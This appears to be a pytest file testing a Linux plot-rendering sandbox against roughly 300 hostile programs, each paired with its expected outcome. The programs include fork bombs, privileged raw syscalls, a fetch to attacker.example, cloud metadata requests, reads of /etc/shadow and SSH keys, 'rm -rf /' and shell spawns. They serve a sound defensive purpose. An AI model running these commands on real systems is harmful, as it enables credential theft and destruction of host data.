"""render/: a twenty-first pass, a breadth sweep: a corpus of 307 classic hostile programs in the styles of public
sandbox-escape and resource-abuse catalogues (process bombs, raw system calls, sockets of every family, host secrets,
writes outside, signals, hangs, memory, output floods, interpreter tricks, matplotlib and SVG abuse), each pinned to
the label render/README.md gives it, with the host effects the earlier passes check (the pool's workers unchanged, no
job process left, nothing written outside the job dir, escaped job text, a clean render afterwards) and each job's
time within its timeout. The first run (297 programs) disagreed 14 times: 2 were the sandbox's, 4 README's:

1. A negative ``<pattern>`` size in a 20 px SVG was ``memory`` (cairo's ``NO_MEMORY`` for the negative tile), and a
   negative ``<mask>`` drew nothing; both are now the document's error, a ``crash``, as a negative SVG size is.
2. A ``data:`` PNG of 100000 px square was ``memory`` (cairosvg decodes a PNG with cairo), where the same image as a
   GIF was PIL's ``DecompressionBombError`` (``too_large``); PIL's pixel limit now holds for a PNG too.
3. README said "undeclared entities" are ``forbidden``; that holds where a DOCTYPE leaves them unread (expat skips
   them), while without one ``&x;`` (a model's ``&nbsp;``) is not well-formed XML, ``syntax``, as test_render_escapes
   pins. README was silent on three more, now said: no pty device (``pty.spawn`` / ``os.openpty`` fail with no path
   in the error: ``crash``), code that patches matplotlib runs in the worker's save (``Figure.savefig`` patched to dpi
   20000: ``memory``, not the ``too_large`` of the check before drawing), still animation frames merged by Pillow
   into one plain PNG (``ok``, not refused as APNG).

The other 8 were this corpus's own guesses, each label following README's rules (ENOSYS / ENOTBLK / a harmless kcmp
from the kernel, a recursion the clock ends before memory, an unpickling that is iterative, a job breaking its own save
by ``sys.modules``, a plot matplotlib refuses to scale to inf).

Programs run through one pool, batched by timeout, so the file stays cheap; those that take seconds to reach their
label (memory filled gradually, a large plot) get a long timeout, so that a loaded machine does not turn them into a
``timeout``."""

import json
import os
import platform
import sys
import tempfile
import time

import pytest

from conftest import job_processes as _job_processes, png_pixel as _pixel

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="render sandbox is Linux-only")

from render import RenderJob  # noqa: E402

TOKEN = "hostile21canary"  # every write a program tries outside its job dir names this
HOST_TMP = tempfile.gettempdir()
PLT = "import matplotlib.pyplot as plt\n"
DRAW = PLT + "plt.figure(figsize=(1, 1), dpi=50)\nplt.plot([1, 2])\n"
RED = PLT + ("fig, ax = plt.subplots(figsize=(2, 2), dpi=50)\nax.add_patch(plt.Rectangle((0, 0), 1, 1, color='red'))\n"
             "ax.set_xlim(0, 1); ax.set_ylim(0, 1); ax.axis('off')\n")
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="{w}" height="{h}">'
       '{body}</svg>')

# a raw system call whose -1 is raised as the OSError it stands for (as catalogue exploits check it), then a plot
SYSCALL = ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nr = libc.syscall({nr}{args})\n"
           "if r == -1:\n    e = ctypes.get_errno()\n    raise OSError(e, os.strerror(e))\n") + DRAW
# x86_64 numbers (the group is skipped on other machines)
NR = dict(ptrace=101, process_vm_writev=311, process_vm_readv=310, perf_event_open=298, bpf=321, userfaultfd=323,
          io_uring_setup=425, keyctl=250, add_key=248, request_key=249, unshare=272, setns=308, clone=56, mount=165,
          umount2=166, chroot=161, pivot_root=155, kexec_load=246, kexec_file_load=320, init_module=175,
          finit_module=313, delete_module=176, reboot=169, swapon=167, swapoff=168, settimeofday=164,
          clock_settime=227, sched_setattr=314, ioprio_set=251, personality=135, modify_ldt=154, memfd_create=319,
          execveat=322, open_by_handle_at=304, name_to_handle_at=303, fanotify_init=300, inotify_init1=294,
          acct=163, sethostname=170, iopl=172, ioperm=173, vhangup=153, syslog=103, kcmp=312, pidfd_open=434,
          pidfd_getfd=438, clone3=435, seccomp=317, fsopen=430, open_tree=428, quotactl=179, create_module=174,
          lookup_dcookie=212, migrate_pages=256, move_pages=279, uselib=134, mq_open=240, msgget=68, shmget=29)


def _sys(name, args="", expect=("forbidden",)):
    return SYSCALL.format(nr=NR[name], args=args), "python", 5.0, set(expect)


SYSCALLS = {  # name: (code, language, timeout_s, accepted kinds)
    "ptrace_traceme": _sys("ptrace", ", 0, 0, 0, 0"),
    "ptrace_attach_1": _sys("ptrace", ", 16, 1, 0, 0"),
    "process_vm_writev": _sys("process_vm_writev", ", 1, 0, 0, 0, 0, 0"),
    "process_vm_readv": _sys("process_vm_readv", ", 1, 0, 0, 0, 0, 0"),
    "perf_event_open": _sys("perf_event_open", ", 0, 0, -1, -1, 0"),
    "bpf_prog_load": _sys("bpf", ", 5, 0, 0"),
    "userfaultfd": _sys("userfaultfd", ", 0"),
    "io_uring_setup": _sys("io_uring_setup", ", 8, 0"),
    "keyctl_join": _sys("keyctl", ", 1, 0"),
    "add_key": _sys("add_key", ", b'user', b'k', b'v', 1, -2"),
    "request_key": _sys("request_key", ", b'user', b'k', 0, 0"),
    "unshare_user": _sys("unshare", ", 0x10000000"),
    "unshare_mount": _sys("unshare", ", 0x00020000"),
    "setns": _sys("setns", ", 0, 0"),
    "clone_newuser": _sys("clone", ", 0x10000000 | 17, 0, 0, 0, 0"),
    "clone_plain_fork": _sys("clone", ", 17, 0, 0, 0, 0"),
    "clone3": _sys("clone3", ", 0, 0", ("crash",)),  # ENOSYS by the filter, so that glibc falls back to clone
    "mount_tmpfs": _sys("mount", ", b'none', b'/job', b'tmpfs', 0, 0"),
    "umount_proc": _sys("umount2", ", b'/proc', 2"),
    "chroot": _sys("chroot", ", b'/job'"),
    "pivot_root": _sys("pivot_root", ", b'/job', b'/job'"),
    "kexec_load": _sys("kexec_load", ", 0, 0, 0, 0"),
    "kexec_file_load": _sys("kexec_file_load", ", -1, -1, 0, 0, 0"),
    "init_module": _sys("init_module", ", 0, 0, b''"),
    "finit_module": _sys("finit_module", ", 0, b'', 0"),
    "delete_module": _sys("delete_module", ", b'ext4', 0"),
    "reboot": _sys("reboot", ", 0xfee1dead, 672274793, 0x4321fedc, 0"),
    "swapon": _sys("swapon", ", b'/job/x', 0"),
    "swapoff": _sys("swapoff", ", b'/job/x'"),
    "settimeofday": _sys("settimeofday", ", (ctypes.c_long * 2)(0, 0), 0"),
    "clock_settime": _sys("clock_settime", ", 0, (ctypes.c_long * 2)(0, 0)"),
    "sched_setattr_deadline": _sys("sched_setattr", ", 0, (ctypes.c_uint32 * 14)(56, 6, 0, 0, 0, 0, 10**6, 0, 10**7, "
                                                     "0, 10**7, 0, 0, 0), 0"),
    "ioprio_set_rt": _sys("ioprio_set", ", 1, 0, (1 << 13) | 0"),
    "personality_read_implies_exec": _sys("personality", ", 0x0400000", ("ok",)),  # harmless for its own process
    "modify_ldt_read": _sys("modify_ldt", ", 0, 0, 0", ("ok",)),  # reads an empty LDT
    "memfd_create": _sys("memfd_create", ", b'x', 0"),
    "execveat_empty_path": _sys("execveat", ", 0, b'', 0, 0, 0x1000"),
    "open_by_handle_at": _sys("open_by_handle_at", ", -100, 0, 0"),
    "name_to_handle_at": _sys("name_to_handle_at", ", -100, b'/etc', 0, 0, 0"),
    "fanotify_init": _sys("fanotify_init", ", 0, 0"),
    "inotify_init1": _sys("inotify_init1", ", 0"),
    "acct": _sys("acct", ", b'/job/acct'"),
    "sethostname": _sys("sethostname", ", b'pwned', 5"),
    "iopl": _sys("iopl", ", 3", ("forbidden", "crash")),  # EPERM, or ENOSYS on a kernel built without it
    "ioperm": _sys("ioperm", ", 0, 1024, 1", ("forbidden", "crash")),
    "vhangup": _sys("vhangup"),
    "syslog_read": _sys("syslog", ", 3, 0, 0"),
    "kcmp_self": _sys("kcmp", ", 1, 1, 0, 0, 0", ("ok",)),  # pid 1 is the job itself: its own fds compared
    "pidfd_getfd_self": _sys("pidfd_getfd", ", 0, 3, 0", ("crash",)),  # EBADF: fd 0 is not a pidfd
    "seccomp_strict": _sys("seccomp", ", 0, 0, 0"),
    "fsopen": _sys("fsopen", ", b'tmpfs', 0"),
    "open_tree": _sys("open_tree", ", -100, b'/', 1"),
    "quotactl": _sys("quotactl", ", 0x800001, b'/dev/null', 0, 0"),  # refused by the filter (ENOTBLK before)
    "create_module_gone": _sys("create_module", ", 0, 0", ("crash",)),  # ENOSYS: removed from the kernel
    "lookup_dcookie": _sys("lookup_dcookie", ", 0, 0, 0", ("crash", "forbidden")),
    "migrate_pages_pid_1": _sys("migrate_pages", ", 1, 64, 0, 0", ("ok", "crash", "forbidden")),
    "uselib": _sys("uselib", ", b'/usr/lib'", ("crash", "forbidden")),
    "mq_open": _sys("mq_open", ", b'q', 0o100, 0o600, 0"),
    "msgget": _sys("msgget", ", 0, 0o1000"),
    "shmget": _sys("shmget", ", 0, 1 << 20, 0o1000"),
}

PROCESSES = {  # fork / exec bombs: the filter kills the first fork or exec (SIGSYS: forbidden)
    "os_fork": ("import os\nos.fork()\n" + DRAW, "python", 5.0, {"forbidden"}),
    "fork_bomb_loop": ("import os\nwhile True:\n    os.fork()\n", "python", 5.0, {"forbidden"}),
    "os_system": ("import os\nos.system('id > /job/x')\n" + DRAW, "python", 5.0, {"forbidden"}),
    "dunder_import_system": ("__import__('os').system('rm -rf /')\n", "python", 5.0, {"forbidden"}),
    "getattr_import_system": ("getattr(__builtins__.__import__('o' + 's'), 'sys' + 'tem')('sh')\n", "python", 5.0,
                              {"forbidden"}),
    "subprocess_run": ("import subprocess\nsubprocess.run(['id'])\n" + DRAW, "python", 5.0, {"forbidden"}),
    "subprocess_shell": ("import subprocess\nsubprocess.check_output('cat /etc/passwd', shell=True)\n", "python",
                         5.0, {"forbidden"}),
    "popen": ("import os\nos.popen('uname -a').read()\n", "python", 5.0, {"forbidden"}),
    "posix_spawn": ("import os\nos.posix_spawn('/bin/sh', ['sh'], {})\n", "python", 5.0, {"forbidden"}),
    "execv": ("import os\nos.execv('/usr/bin/python3', ['python3', '-c', 'print(1)'])\n", "python", 5.0,
              {"forbidden"}),
    "ctypes_system": ("import ctypes\nctypes.CDLL(None).system(b'id')\n", "python", 5.0, {"forbidden"}),
    # no pty device in the tree: openpty fails before any fork, with no path in its error (see render/README.md)
    "pty_spawn": ("import pty\npty.spawn('/bin/sh')\n", "python", 5.0, {"crash"}),
    "os_openpty": ("import os\nos.openpty()\n", "python", 5.0, {"crash"}),
    "open_dev_ptmx": ("open('/dev/ptmx', 'r+b')\n", "python", 5.0, {"forbidden"}),
    "multiprocessing_process": ("import multiprocessing as mp\np = mp.Process(target=print)\np.start()\np.join()\n",
                                "python", 5.0, {"forbidden"}),
    "multiprocessing_pool": ("import multiprocessing as mp\nmp.Pool(2).map(abs, [1, 2])\n", "python", 5.0,
                             {"forbidden"}),
    "process_pool_executor": ("from concurrent.futures import ProcessPoolExecutor as P\n"
                              "print(list(P(2).map(abs, [1, 2])))\n", "python", 5.0, {"forbidden"}),
    "thread_bomb": ("import threading, time\nfor _ in range(100000):\n"
                    "    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n", "python", 5.0,
                    {"crash"}),  # RLIMIT_NPROC: "can't start new thread"
    "threads_left_spinning": ("import threading\ndef spin():\n    while True:\n        pass\n"
                              "for _ in range(4):\n    threading.Thread(target=spin).start()\n" + DRAW, "python",
                              15.0, {"ok"}),
    "thread_pool_executor": ("from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(8) as ex:\n"
                             "    xs = list(ex.map(abs, range(-50, 50)))\n" + DRAW, "python", 5.0, {"ok"}),
}

SOCKETS = {  # every family refused by the filter (EPERM: forbidden), DNS has no name service
    "inet_connect": ("import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=1)\n", "python", 5.0,
                     {"forbidden"}),
    "inet6_connect": ("import socket\ns = socket.socket(socket.AF_INET6)\ns.connect(('::1', 22))\n", "python", 5.0,
                      {"forbidden"}),
    "inet_bind_listen": ("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 8080))\ns.listen()\n", "python",
                         5.0, {"forbidden"}),
    "udp_send": ("import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))\n",
                 "python", 5.0, {"forbidden"}),
    "unix_abstract": ("import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0/tmp/.X11-unix/X0')\n",
                      "python", 5.0, {"forbidden"}),
    "unix_path_docker": ("import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/var/run/docker.sock')\n",
                         "python", 5.0, {"forbidden"}),
    "netlink_route": ("import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n", "python", 5.0,
                      {"forbidden"}),
    "packet_raw": ("import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)\n", "python", 5.0,
                   {"forbidden"}),
    "vsock": ("import socket\nsocket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\n", "python", 5.0, {"forbidden"}),
    "alg_hash": ("import socket\nsocket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0)\n", "python", 5.0,
                 {"forbidden"}),
    "socketpair": ("import socket\nsocket.socketpair()\n", "python", 5.0, {"forbidden"}),
    "dns_getaddrinfo": ("import socket\nsocket.getaddrinfo('example.com', 443)\n", "python", 5.0, {"forbidden"}),
    "dns_gethostbyname": ("import socket\nsocket.gethostbyname('attacker.example')\n", "python", 5.0,
                          {"forbidden"}),
    "urllib_exfil": ("import urllib.request\nurllib.request.urlopen('http://attacker.example/?k=1', timeout=2)\n",
                     "python", 5.0, {"forbidden"}),
    "urllib_ip": ("import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/', "
                  "timeout=2)\n", "python", 5.0, {"forbidden"}),
    "http_client": ("import http.client\nc = http.client.HTTPConnection('10.0.0.1', 80, timeout=2)\n"
                    "c.request('GET', '/')\n", "python", 5.0, {"forbidden"}),
}

SECRETS = {  # what is not in the tree is a path outside the job dir (FileNotFoundError: forbidden); procfs: EACCES
    "etc_shadow": ("open('/etc/shadow').read()\n", "python", 5.0, {"forbidden"}),
    "etc_passwd": ("open('/etc/passwd').read()\n", "python", 5.0, {"forbidden"}),
    "root_ssh_key": ("open('/root/.ssh/id_rsa').read()\n", "python", 5.0, {"forbidden"}),
    "home_ssh_key": ("import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n", "python", 5.0,
                     {"crash"}),  # HOME is the job dir: a missing file of its own
    "proc_1_environ": ("open('/proc/1/environ', 'rb').read()\n", "python", 5.0, {"forbidden"}),
    "proc_self_environ": ("open('/proc/self/environ', 'rb').read()\n", "python", 5.0, {"forbidden"}),
    "proc_cmdlines": ("import os\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n"
                      "        open(f'/proc/{p}/cmdline', 'rb').read()\n", "python", 5.0, {"forbidden"}),
    "proc_self_mem_write": ("f = open('/proc/self/mem', 'r+b')\n", "python", 5.0, {"forbidden"}),
    "proc_kcore": ("open('/proc/kcore', 'rb').read(16)\n", "python", 5.0, {"forbidden"}),
    "sys_class_net": ("import os\nos.listdir('/sys/class/net')\n", "python", 5.0, {"forbidden"}),
    "dev_mem": ("open('/dev/mem', 'rb').read(16)\n", "python", 5.0, {"forbidden"}),
    "dev_sda": ("open('/dev/sda', 'rb').read(16)\n", "python", 5.0, {"forbidden"}),
    "mmevo_checkout_readme": ("import os, render\nrepo = os.path.dirname(os.path.dirname(render.__file__))\n"
                              "open(os.path.join(repo, 'README.md')).read()\n", "python", 5.0, {"forbidden"}),
    "mmevo_checkout_write": ("import os, render\nopen(os.path.join(os.path.dirname(render.__file__), "
                             f"'{TOKEN}.py'), 'w').write('x')\n", "python", 5.0, {"forbidden"}),
    "host_tmp_listing": (f"import os\nos.listdir({HOST_TMP!r} + '/..')\nopen({HOST_TMP!r} + '/x').read()\n",
                         "python", 5.0, {"forbidden"}),
    "cwd_parent": ("open('../../etc/hostname').read()\n", "python", 5.0, {"forbidden"}),
    "env_vars": ("import os, json\nraise RuntimeError(json.dumps(sorted(os.environ)))\n", "python", 5.0, {"crash"}),
    "aws_key_env": ("import os\nos.environ['AWS_SECRET_ACCESS_KEY']\n", "python", 5.0, {"crash"}),
}

WRITES = {  # the tree is read-only but the job dir (EROFS / EACCES: forbidden)
    "write_host_tmp": (f"open({HOST_TMP!r} + '/{TOKEN}', 'w').write('x')\n", "python", 5.0, {"forbidden"}),
    "write_dev_shm": (f"open('/dev/shm/{TOKEN}', 'w').write('x')\n", "python", 5.0, {"forbidden"}),
    "write_dotdot": (f"open('../{TOKEN}', 'w').write('x')\n", "python", 5.0, {"forbidden"}),
    "write_etc": (f"open('/etc/{TOKEN}', 'w').write('x')\n", "python", 5.0, {"forbidden"}),
    "symlink_then_savefig": (PLT + f"import os\nos.symlink({HOST_TMP!r} + '/{TOKEN}.png', 'out.png')\n"
                             "plt.plot([1])\nplt.savefig('out.png')\n", "python", 5.0, {"forbidden"}),
    "symlink_out_to_host_file": ("import os\nos.symlink('/etc/ld.so.cache', 'out.png')\n", "python", 5.0,
                                 {"invalid_image"}),
    "hardlink_host_file": ("import os\nos.link('/etc/ld.so.cache', 'out.png')\n", "python", 5.0, {"forbidden"}),
    "savefig_absolute": (PLT + f"plt.plot([1])\nplt.savefig({HOST_TMP!r} + '/{TOKEN}.png')\n", "python", 5.0,
                         {"forbidden"}),
    "savefig_root_relative_chdir": (PLT + f"import os\nos.chdir('/')\nplt.plot([1])\nplt.savefig('{TOKEN}.png')\n",
                                    "python", 5.0, {"forbidden"}),
    "rcparams_savefig_directory": (PLT + f"plt.rcParams['savefig.directory'] = {HOST_TMP!r}\nplt.plot([1])\n"
                                   f"plt.savefig('{TOKEN}.png')\n", "python", 5.0, {"ok"}),
    "mpl_cache_poison": ("import matplotlib, os\nd = matplotlib.get_cachedir()\n"
                         "open(os.path.join(d, 'fontlist-v390.json'), 'w').write('{}')\n" + DRAW, "python", 5.0,
                         {"ok"}),  # its cache dir is its own job dir
    "mpl_config_poison": ("import matplotlib, os\nopen(os.path.join(matplotlib.get_configdir(), 'matplotlibrc'), "
                          "'w').write('backend: TkAgg\\n')\n" + DRAW, "python", 5.0, {"ok"}),
    "fill_job_disk": ("f = open('big', 'wb')\nwhile True:\n    f.write(b'x' * (1 << 20))\n", "python", 5.0,
                      {"too_large"}),
    "chmod_jobdir": ("import os\nos.chmod('/job', 0o777)\nos.chmod('/', 0o777)\n", "python", 5.0, {"forbidden"}),
    "mkfifo_out": ("import os\nos.mkfifo('out.png')\n", "python", 5.0, {"invalid_image"}),
}

SIGNALS = {  # kill is refused (EPERM: forbidden); a signal pid 1 sends itself with its default action is ignored
    "kill_all": ("import os, signal\nos.kill(-1, signal.SIGKILL)\n", "python", 5.0, {"forbidden"}),
    "kill_parent": ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n", "python", 5.0, {"forbidden"}),
    "killpg_self": ("import os, signal\nos.killpg(0, signal.SIGTERM)\n", "python", 5.0, {"forbidden"}),
    "kill_self_sigstop": ("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n" + DRAW, "python", 5.0,
                          {"forbidden"}),
    "raise_sigstop": ("import signal\nsignal.raise_signal(signal.SIGSTOP)\n" + DRAW, "python", 5.0, {"ok"}),
    "raise_sigkill": ("import signal\nsignal.raise_signal(signal.SIGKILL)\n" + DRAW, "python", 5.0, {"ok"}),
    "raise_sigsegv_default": ("import signal\nsignal.raise_signal(signal.SIGSEGV)\n" + DRAW, "python", 5.0, {"ok"}),
    "real_segfault": ("import ctypes\nctypes.string_at(0)\n", "python", 5.0, {"crash"}),
    "abort": ("import os\nos.abort()\n", "python", 5.0, {"crash"}),  # SIGABRT ignored by pid 1: glibc's last resort
    "setsid": ("import os\nos.setsid()\n", "python", 5.0, {"forbidden"}),
    "pdeathsig_cleared": ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                          "assert libc.prctl(1, 0, 0, 0, 0) == 0, ctypes.get_errno()\n", "python", 5.0, {"crash"}),
    "alarm_no_handler": ("import signal, time\nsignal.alarm(1)\ntime.sleep(3)\n" + DRAW, "python", 2.0,
                         {"timeout"}),
    "alarm_raises": ("import signal, time\ndef h(*a):\n    raise KeyboardInterrupt\nsignal.signal(signal.SIGALRM, h)\n"
                     "signal.alarm(1)\ntime.sleep(3)\n", "python", 3.0, {"crash"}),
    "sigxcpu_ignored": ("import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True:\n    pass\n",
                        "python", 1.0, {"timeout"}),
    "sigxcpu_handler_loops": ("import signal\nsignal.signal(signal.SIGXCPU, lambda *a: None)\n"
                              "signal.signal(signal.SIGTERM, lambda *a: None)\nwhile True:\n    pass\n", "python",
                              1.0, {"timeout"}),
    "sigpipe_self_ignored": ("import signal\nsignal.signal(signal.SIGPIPE, signal.SIG_IGN)\n" + DRAW, "python",
                             5.0, {"ok"}),
}

TIME = {  # wall clock: timeout
    "busy_loop": ("while True:\n    pass\n", "python", 1.0, {"timeout"}),
    "sleep_forever": ("import time\ntime.sleep(1e9)\n", "python", 1.0, {"timeout"}),
    "select_nothing": ("import select\nselect.select([], [], [])\n", "python", 1.0, {"timeout"}),
    "pause": ("import signal\nsignal.pause()\n", "python", 1.0, {"timeout"}),
    "event_wait": ("import threading\nthreading.Event().wait()\n", "python", 1.0, {"timeout"}),
    "lock_twice": ("import threading\nl = threading.Lock()\nl.acquire()\nl.acquire()\n", "python", 1.0,
                   {"timeout"}),
    "join_self_thread_forever": ("import threading, time\nt = threading.Thread(target=time.sleep, args=(1e9,))\n"
                                 "t.start()\nt.join()\n", "python", 1.0, {"timeout"}),
    "catastrophic_regex": ("import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')\n", "python", 1.0, {"timeout"}),
    "stdin_read": ("import sys\nsys.stdin.read()\n" + DRAW, "python", 5.0, {"ok"}),  # stdin is /dev/null: EOF
    "input_eof": ("input('name? ')\n", "python", 5.0, {"crash"}),
    "pdb_set_trace": ("import pdb\npdb.set_trace()\nx = 1\n", "python", 5.0, {"crash"}),  # EOF at the prompt: BdbQuit
    "breakpoint": ("breakpoint()\n" + DRAW, "python", 5.0, {"crash"}),
    "plt_show": (DRAW + "plt.show()\n", "python", 5.0, {"ok"}),
    "plt_pause": (DRAW + "plt.pause(0.1)\n", "python", 5.0, {"ok"}),
    "big_int_power": ("x = 10 ** (10 ** 9)\n", "python", 1.0, {"timeout"}),
    "sha_loop_blocking_read": ("import os\nr, w = os.pipe()\nos.read(r, 1)\n", "python", 1.0, {"timeout"}),
}

MEMORY = {  # MemoryError is memory; a RecursionError is a crash
    "big_list": ("x = [0] * (10 ** 11)\n", "python", 5.0, {"memory"}),
    "list_append_forever": ("x = []\nwhile True:\n    x.append(' ' * 10 ** 6)\n", "python", 15.0, {"memory"}),
    "numpy_huge": ("import numpy as np\nnp.ones((10 ** 6, 10 ** 6))\n", "python", 5.0, {"memory"}),
    "numpy_touch_gradually": ("import numpy as np\nxs = []\nwhile True:\n    xs.append(np.ones(2 ** 24))\n",
                              "python", 15.0, {"memory"}),
    "bytes_times_n": ("b = b'x' * (10 ** 12)\n", "python", 5.0, {"memory"}),
    "bytearray_huge": ("b = bytearray(2 ** 40)\n", "python", 5.0, {"memory"}),
    "str_join_doubling": ("s = 'x'\nwhile True:\n    s += s\n", "python", 15.0, {"memory"}),
    "recursion": ("def f(n):\n    return f(n + 1)\nf(0)\n", "python", 5.0, {"crash"}),
    "recursion_limit_1e9": ("import sys\nsys.setrecursionlimit(10 ** 9)\n" + DRAW, "python", 5.0, {"ok"}),
    "deep_recursion_no_limit": ("import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(n):\n    return f(n + 1)\nf(0)\n",
                                "python", 2.0, {"memory", "timeout"}),  # frames on the heap: whichever ends first
    "pickle_deep_dumps": ("import pickle\nx = []\nfor _ in range(10 ** 6):\n    x = [x]\npickle.dumps(x)\n", "python",
                          15.0, {"crash"}),
    "pickle_deep_loads": ("import pickle\npickle.loads(b'(' * 10 ** 6 + b'l' * 10 ** 6 + b'.')\n", "python", 5.0,
                          {"no_output"}),  # unpickling is iterative: a deep list, then no figure
    "json_deep": ("import json\njson.loads('[' * 10 ** 6 + ']' * 10 ** 6)\n", "python", 5.0, {"crash"}),
    "repr_deep_limit_1e9": ("import sys\nsys.setrecursionlimit(10 ** 9)\nx = []\nfor _ in range(10 ** 6):\n"
                            "    x = [x]\nrepr(x)\n", "python", 15.0, {"crash"}),  # the C stack: SIGSEGV
    "re_deep_compile": ("import re\nre.compile('(' * 10 ** 5 + ')' * 10 ** 5)\n", "python", 5.0, {"crash"}),
    "ast_deep_eval": ("eval('-' * 10 ** 6 + '1')\n", "python", 5.0, {"memory"}),  # the parser's MemoryError
    "source_too_deep": ("x = " + "(" * 500 + "1" + ")" * 500 + "\n", "python", 5.0, {"syntax"}),
    "mmap_private_huge": ("import mmap\nm = mmap.mmap(-1, 1 << 40, flags=mmap.MAP_PRIVATE)\n", "python", 5.0,
                          {"memory"}),
    "mmap_shared_anon": ("import mmap\nm = mmap.mmap(-1, 1 << 20)\n", "python", 5.0, {"forbidden"}),
}

OUTPUT = {  # stdout / stderr go nowhere; the result pipe (fd 3) is the job's own report
    "stdout_100mb": ("import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 10 ** 6)\n" + DRAW, "python",
                     15.0, {"ok"}),
    "stderr_flood_forever": ("import os\nwhile True:\n    os.write(2, b'E' * 65536)\n", "python", 1.0, {"timeout"}),
    "non_utf8_exception": ("raise RuntimeError(b'\\xff\\xfe\\x80'.decode('latin-1') + '\\udcff')\n", "python", 5.0,
                           {"crash"}),
    "ansi_in_exception": ("raise RuntimeError('\\x1b[2J\\x1b[31mPWNED\\x1b]0;title\\x07')\n", "python", 5.0,
                          {"crash"}),
    "huge_exception": ("raise RuntimeError('A' * 10 ** 7)\n", "python", 5.0, {"crash"}),
    "warning_flood": ("import warnings\nfor i in range(100000):\n    warnings.warn(f'w{i}')\n" + DRAW, "python",
                      15.0, {"ok"}),
    "stdout_closed": ("import sys, os\nsys.stdout.close()\nos.close(1)\nos.close(2)\n" + DRAW, "python", 5.0,
                      {"ok"}),
    "write_every_fd": ("import os\nfor fd in range(256):\n    try:\n        os.write(fd, b'garbage\\n')\n"
                       "    except OSError:\n        pass\n" + DRAW, "python", 5.0, {"protocol"}),
    "close_result_fd": ("import os\nos.close(3)\n" + DRAW, "python", 5.0, {"ok"}),
    "close_every_fd": ("import os\nos.closerange(0, 256)\n" + DRAW, "python", 5.0, {"ok"}),
    "fake_ok_no_png": ("import os\nos.write(3, b'ok\\nforged')\nos._exit(0)\n", "python", 5.0, {"no_output"}),
    "fake_ok_bad_png": ("import os\nopen('out.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n' + b'x' * 100)\n"
                        "os.write(3, b'ok\\nforged')\nos._exit(0)\n", "python", 5.0, {"invalid_image"}),
    "fake_unknown_kind": ("import os\nos.write(3, b'pwned\\nx')\nos._exit(0)\n", "python", 5.0, {"protocol"}),
    "fake_frame_flood": ("import os\nwhile True:\n    os.write(3, b'x' * 65536)\n", "python", 2.0, {"protocol"}),
    "fake_frame_non_utf8": ("import os\nos.write(3, b'ok\\n\\xff\\xfe')\nos._exit(0)\n", "python", 5.0,
                            {"protocol"}),
    "dup2_over_result_fd": (DRAW + "import os\nos.dup2(os.open('x', os.O_WRONLY | os.O_CREAT), 3)\n", "python",
                            5.0, {"ok"}),
}

PYTHON_TRICKS = {
    "builtins_open_patched": ("import builtins\nbuiltins.open = None\n" + DRAW, "python", 5.0, {"crash"}),
    "builtins_import_patched": (DRAW + "import builtins\nbuiltins.__import__ = None\n", "python", 5.0,
                                {"crash"}),
    "sys_modules_os_none": (DRAW + "import sys\nsys.modules['os'] = None\n", "python", 5.0,
                            {"crash"}),  # the worker's save imports os again
    "sys_modules_pyplot_fake": (DRAW + "import sys, types\nsys.modules['matplotlib.pyplot'] = types.ModuleType('x')\n",
                                "python", 5.0, {"ok"}),
    "atexit_handler": ("import atexit\natexit.register(lambda: open('/etc/x', 'w'))\n" + DRAW, "python", 5.0,
                       {"ok"}),
    "gc_callback_raises": ("import gc\ngc.callbacks.append(lambda *a: 1 / 0)\n" + DRAW + "gc.collect()\n", "python",
                           5.0, {"ok"}),
    "del_at_shutdown": ("class A:\n    def __del__(self):\n        open('/etc/x', 'w')\na = A()\n" + DRAW, "python",
                        5.0, {"ok"}),
    "os_exit_after_save": (DRAW + "plt.savefig('out.png')\nimport os\nos._exit(0)\n", "python", 5.0, {"ok"}),
    "os_exit_without_save": (DRAW + "import os\nos._exit(0)\n", "python", 5.0, {"no_output"}),
    "os_exit_1_after_save": (DRAW + "plt.savefig('out.png')\nimport os\nos._exit(1)\n", "python", 5.0, {"crash"}),
    "exit_before_save": (DRAW + "exit()\n", "python", 5.0, {"ok"}),
    "sys_exit_1_with_figure": (DRAW + "import sys\nsys.exit(1)\n", "python", 5.0, {"ok"}),
    "system_exit_no_figure": ("raise SystemExit(0)\n", "python", 5.0, {"no_output"}),
    "keyboard_interrupt": ("raise KeyboardInterrupt\n", "python", 5.0, {"crash"}),
    "base_exception": ("raise BaseException('x')\n", "python", 5.0, {"crash"}),
    "generator_exit": ("raise GeneratorExit\n", "python", 5.0, {"crash"}),
    "memory_error_raised": ("raise MemoryError('fake')\n", "python", 5.0, {"memory"}),
    "permission_error_raised": ("raise PermissionError('fake')\n", "python", 5.0, {"forbidden"}),
    "exception_str_raises": ("class E(Exception):\n    def __str__(self):\n        raise E()\nraise E()\n", "python",
                             5.0, {"crash"}),
    "threading_excepthook_exit": ("import threading, os, time\nthreading.excepthook = lambda a: os._exit(7)\n"
                                  "threading.Thread(target=lambda: 1 / 0).start()\ntime.sleep(1)\n", "python", 5.0,
                                  {"crash"}),
